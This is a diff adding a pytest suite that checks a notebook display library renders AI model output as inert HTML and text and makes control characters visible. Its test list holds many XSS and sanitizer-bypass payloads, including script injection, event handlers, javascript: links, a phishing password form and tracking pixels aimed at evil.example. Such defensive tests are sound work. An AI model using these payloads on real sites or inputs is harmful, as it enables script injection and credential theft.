@@ -1,0 +1,168 @@
+"""Whatever a model writes, it is shown as text: nothing in it acts, fetches, submits, or moves a cursor."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from mm_magics.display import inert, markdown
+from mm_magics.display.bundle import STYLE, bundle
+from tests.turns import RESPONSE, turn
+
+from .html import dangers, elements, text
+
+EVIL = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=https://evil.example/pixel.png>",
+    "![pixel](https://evil.example/pixel.png)",
+    '![x](x "a\\" onerror=alert(1)")',
+    '![<img src=x onerror=alert(1)>](https://evil.example/"onload=alert(1))',
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><rect width=9 height=9 /></a></svg>",
+    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
+    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=evil.swf></object><embed src=evil.swf>",
+    "<form action=https://evil.example><input name=key type=password><button>Log in</button></form>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<div style='background:url(https://evil.example);position:fixed;inset:0'>x</div>",
+    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<video autoplay src=https://evil.example></video><audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)><html manifest=x>",
+    "<a href=javascript:alert(1)>x</a> <a href='java\tscript:alert(1)'>x</a> <a href=' javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x](java&#x0A;script:alert(1)) [x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x) [x](file:///etc/passwd)",
+    "[x](command:workbench.action.terminal.new) <javascript:alert(1)> <https://example.org/ok>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '[x](https://example.org "title\' onmouseover=\'alert(1)") [x](https://a"onclick=alert(1))',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+    "<title></title><img src=x onerror=alert(1)>",
+    "<xmp></xmp><img src=x onerror=alert(1)> <plaintext> <listing>",
+    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?xml x?><!DOCTYPE x>",
+    "<img/src='x'/onerror=alert(1)><svg/onload=alert(1)><<script>alert(1)//<</script>",
+    "\x00<scr\x00ipt>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "`<script>alert(1)</script>` ``</code><script>alert(1)</script>``",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```python onload=alert(1)\n'</span><img src=x onerror=alert(1)>'  # </i><script>\n```",
+    "~~~\n</code></pre><img src=x onerror=alert(1)>\n~~~",
+    '| <script>alert(1)</script> | "onclick=alert(1) |\n| :--- | ---: |\n| <img src=x onerror=alert(1)> | `<svg>` |',
+    "- [x] <input type=image src=https://evil.example onfocus=alert(1) autofocus>\n- [ ] x",
+    "$\\href{javascript:alert(1)}{x}$ $</span><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
+    "$$\n\\unicode{x3c}<svg onload=alert(1)>\n$$ (a)",
+    "<div class='jp-Dialog' id=evil data-commandlinker-command=x>x</div>",
+    "<template><script>alert(1)</script></template><slot name=x></slot><portal src=x>",
+    "</div></div></details></body></html><script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)>\n\n> <script>x</script>\n\n1. <svg onload=x>",
+    '<a href="https://example.org" ping=https://evil.example target=_top download>x</a>',
+    "<video><source onerror=alert(1)></video><marquee onstart=alert(1)><isindex type=image src=1 onerror=alert(1)>",
+]
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_hostile_markdown_becomes_inert_html(evil: str) -> None:
+    assert dangers(markdown.html(evil)) == []
+    assert dangers(markdown.html(f"before\n\n{evil}\n\nafter `x` *y*\n")) == []
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_hostile_html_is_cleaned(evil: str) -> None:
+    cleaned = inert.clean(evil)
+    found = [each for each in dangers(cleaned) if not each.startswith(("class ", "<input"))]
+    assert found == []
+    assert inert.clean(cleaned) == cleaned
+    assert not any(tag == "input" and "src" in attributes for tag, attributes in elements(cleaned))
+
+
+@pytest.mark.parametrize("language", ["", "html", "python", '"><script>', "no-such-language", "js\nx"])
+@pytest.mark.parametrize("evil", EVIL[::4])
+def test_hostile_code_is_shown_as_text(evil: str, language: str) -> None:
+    html = markdown.code(evil, language)
+    assert dangers(html) == []
+    assert text(html).rstrip("\n") == inert.visible(evil).rstrip("\n")
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_the_final_bundle_is_inert_wherever_the_text_stands(evil: str) -> None:
+    content = [
+        {"type": "thinking", "thinking": evil, "signature": evil},
+        {"type": "text", "text": evil},
+        {"type": "tool_use", "id": evil, "name": evil, "input": {evil: evil}},
+        {"type": evil or "x", evil: evil},
+        {"type": "redacted_thinking", "data": evil},
+    ]
+    made = turn(evil, content, model=evil, error=evil, status="failed", system=evil, thread=evil, cell_id=evil)
+    made.messages.append({"role": "user", "content": [{"type": "tool_result", "tool_use_id": evil, "content": evil}]})
+    made.responses.append({**RESPONSE, "stop_reason": evil, "id": evil, "model": evil})
+    forms: list[Any] = ["markdown", "code", "text", "json"]
+    for form in forms:
+        for quiet in (False, True):
+            html = bundle(made, form=form, quiet=quiet, notes=[evil])["text/html"]
+            assert html.count(STYLE) == 1
+            assert dangers(html.replace(STYLE, "")) == []
+
+
+def test_the_checker_itself_sees_danger() -> None:
+    for evil in EVIL[:22]:
+        assert dangers(f"<p>{evil}</p>") or "](" in evil, evil
+
+
+@given(st.text(st.sampled_from("<>\"'&/!-=`[]()*_$\\ \nabs:#|~"), max_size=40))
+@example("<a\n b='")
+def test_any_heap_of_marks_becomes_inert_html(heap: str) -> None:
+    assert dangers(markdown.html(heap)) == []
+
+
+@pytest.mark.parametrize("evil", ["![a](https://e.org/p.png)", "[a](https://e.org)", "<https://e.org>"])
+def test_a_link_stays_a_link_and_an_image_becomes_one(evil: str) -> None:
+    links = [attributes for tag, attributes in elements(markdown.html(evil)) if tag == "a"]
+    assert [link["href"].partition("/p")[0] for link in links] == ["https://e.org"]
+
+
+# Control characters ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("raw", "seen"),
+    [
+        ("\x1b[31mred\x1b[0m", "␛[31mred␛[0m"),
+        ("a\x07\x08\x7f", "a␇␈␡"),
+        ("\x9b31m", "[U+009B]31m"),
+        ("\u202eevil\u202c", "[U+202E]evil[U+202C]"),
+        ("\u2066\u2067\u2068\u2069", "[U+2066][U+2067][U+2068][U+2069]"),
+        ("a\r\nb\tc", "a\nb\tc"),
+        ("100%\r50%", "100%␍50%"),
+        ("half \ud83d.", "half [U+D83D]."),
+        ("Grüße 🦪 牡蠣 👩‍👩‍👧 é", "Grüße 🦪 牡蠣 👩‍👩‍👧 é"),
+    ],
+)
+def test_what_cannot_be_seen_is_made_visible(raw: str, seen: str) -> None:
+    assert inert.visible(raw) == seen
+
+
+@given(st.text(st.characters(exclude_categories=()), max_size=30))
+def test_no_control_character_survives_and_all_of_it_can_be_written(raw: str) -> None:
+    seen = inert.visible(raw)
+    assert all(each in "\t\n" or not (ord(each) < 32 or 127 <= ord(each) < 160) for each in seen)
+    seen.encode()
+    assert inert.visible(seen) == seen
+
+
+@pytest.mark.parametrize("raw", ["\x1b]0;title\x07", "\x1b[2J", "\u202eabc", "a\x00b", "\x9b1m", "half \ud83d."])
+def test_control_characters_are_visible_in_every_shown_form(raw: str) -> None:
+    made = bundle(turn(raw, raw, model=raw, error=raw), notes=[raw])
+    for kind in ("text/html", "text/plain"):
+        assert raw not in made[kind]
+        assert inert.visible(raw) in text(made[kind])
+        assert inert.visible(made[kind]) == made[kind]
